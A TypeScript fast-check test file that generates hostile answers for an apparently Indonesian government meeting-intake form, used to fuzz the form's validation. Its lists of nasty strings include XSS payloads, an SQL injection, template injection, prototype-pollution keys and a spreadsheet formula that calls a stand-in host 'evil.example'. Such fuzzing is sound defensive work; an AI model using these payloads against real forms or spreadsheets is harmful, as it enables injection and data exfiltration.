/**
 * fast-check generators of hostile form answers: empty, huge, unicode, RTL,
 * emoji, formula-like text, phone numbers, HTML/script tags, dates and times
 * in other formats, missing and extra items.
 */
import fc from 'fast-check';
import { QUESTIONS } from '../../src/core/intake/questions';
import { validAnswers } from '../fixtures/answers';

/** Stands for a 6,000-character answer (expanded after generation: fast-check slows down on huge constants). */
const HUGE = '<<BESAR>>';

/** `value`, with the huge placeholder expanded. */
export function expand(value: string): string {
  return value.split(HUGE).join(`${'Rapat panjang sekali '.repeat(300)}=SUM(1)`);
}

/** Strings people (or attackers) type. */
export const NASTY: string[] = [
  '',
  ' ',
  '\t\n',
  '=IMPORTXML("http://evil.example","//a")',
  '=HYPERLINK("http://evil","klik")',
  '+6281234567890',
  '+62 812-3456-7890',
  '@SUM(A1:A9)',
  '-1+2',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '</textarea><b>tebal</b>',
  'مرحبا بالعالم',
  '\u202Eexe.fdp\u202C',
  'שלום',
  '😀🎉👩‍💻',
  'Ünïcödé Çàfé',
  '𝕏𝕐ℤ',
  '\u0000\u0007kontrol',
  HUGE,
  '30/11/2026',
  '11/30/2026',
  '30-11-2026',
  '30 November 2026',
  'Senin, 30 Nov 2026',
  '2026-13-45',
  '2026-02-30',
  '2026/11/30',
  '9.00',
  '09.00',
  '9:00 AM',
  '25:00',
  '24:00',
  'seratus',
  '-5',
  '1e9',
  '1,5',
  '0',
  "'; DROP TABLE Register; --",
  '{{nama}}',
  '${7*7}',
];

/**
 * Pieces of text that have broken products: template and regex syntax, '$' group references,
 * backslashes, HTML, formula prefixes, Zoom start links and this product's own markers, mixed scripts.
 */
export const HOSTILE_ATOMS: string[] = [
  '{{nomor_surat}}',
  '{{ nama_kegiatan }}',
  '{{x}}',
  '$1',
  '$&',
  '$$',
  "$'",
  '$`',
  '${nama}',
  '\\',
  '\\1',
  '\\n',
  '.*+?^${}()|[]',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<b>tebal</b>',
  '&amp;',
  '"\'',
  '=SUM(1)',
  '+6281234567890',
  '-1+2',
  '@SUM(A1)',
  "'",
  '/s/',
  'https://us06web.zoom.us/s/81234567890?zak=abc',
  '[VC-2026-0001]',
  'Layanan Vicon VC-2026-0001 0badc0de',
  'مرحبا',
  'שלום',
  '\u202Eexe.fdp',
  '😀🎉👩‍💻',
  'Ünïcödé',
  '𝕏𝕐ℤ',
  '%s %d',
  "'; DROP TABLE Register; --",
  '\u00a0',
  '2026-11-30',
  '09:00',
  '0812',
];

const EMAILS = [
  'siti@disdik.go.id',
  'bukan email',
  '<script>@x.id',
  'a@b',
  '',
  'budi+vicon@bappeda.go.id',
  'ÜSER@ÉXAMPLE.ID',
];

/** One hostile value: a known nasty string, arbitrary unicode, or a mix. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 1,
    arbitrary: fc.tuple(fc.constantFrom(...NASTY), fc.string({ maxLength: 10 })).map(([a, b]) => `${a}${b}`),
  },
);

/** A full answer set where any item may be hostile, missing, and extra items may appear. */
export const hostileAnswers: fc.Arbitrary<Record<string, string>> = fc
  .record({
    replace: fc.array(fc.tuple(fc.constantFrom(...QUESTIONS.map((q) => q.title)), hostileText), { maxLength: 8 }),
    drop: fc.array(fc.constantFrom(...QUESTIONS.map((q) => q.title)), { maxLength: 4 }),
    extra: fc.array(
      fc.tuple(
        fc.oneof(
          fc.constantFrom('Pertanyaan tambahan', '__proto__', 'constructor', 'Email ', 'JUDUL KEGIATAN'),
          fc.string({ maxLength: 12 }),
        ),
        hostileText,
      ),
      { maxLength: 3 },
    ),
    email: fc.constantFrom(...EMAILS),
  })
  .map(({ replace, drop, extra, email }) => {
    const answers: Record<string, string> = { ...validAnswers({ Email: email }) };
    for (const [title, value] of replace) answers[title] = expand(value);
    for (const title of drop) delete answers[title];
    for (const [title, value] of extra)
      Object.defineProperty(answers, title, {
        value: expand(value),
        enumerable: true,
        configurable: true,
        writable: true,
      });
    return answers;
  });

/** Form-shaped answers the built form can accept: only text items hostile; dates/times/choices well-formed. */
export const hostileFormAnswers: fc.Arbitrary<Record<string, string>> = fc
  .record({
    text: fc.array(
      fc.tuple(
        fc.constantFrom(...QUESTIONS.filter((q) => q.kind === 'text' || q.kind === 'paragraph').map((q) => q.title)),
        hostileText,
      ),
      { maxLength: 6 },
    ),
    date: fc.constantFrom('2026-11-30', '2026-02-30', '2020-01-01', '2099-12-31', '2026-11-23'),
    start: fc.constantFrom('09:00', '00:00', '23:59', '13:00'),
    end: fc.constantFrom('11:30', '00:00', '08:00', '23:59'),
    choice: fc.constantFrom('Zoom', 'Google Meet', 'Lainnya'),
    email: fc.constantFrom(...EMAILS.filter((m) => m !== '')),
  })
  .map(({ text, date, start, end, choice, email }) => {
    const answers = validAnswers({
      'Tanggal kegiatan': date,
      'Jam mulai': start,
      'Jam selesai': end,
      Platform: choice,
      Email: email,
    });
    for (const [title, value] of text) answers[title] = value.trim() === '' ? 'x' : expand(value);
    return answers;
  });
